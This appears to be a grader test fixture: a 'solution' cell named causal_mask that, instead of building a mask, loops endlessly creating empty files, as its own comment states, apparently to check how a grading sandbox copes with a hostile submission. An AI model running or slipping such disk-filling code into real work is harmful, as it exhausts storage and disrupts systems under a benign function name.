# It fills the folder with empty files.
# fails: causal_mask, masks_together
# %% solution="causal_mask"
def causal_mask(size, device=None):
    number = 0
    while True:
        number += 1
        open(f"file_{number}", "x").close()
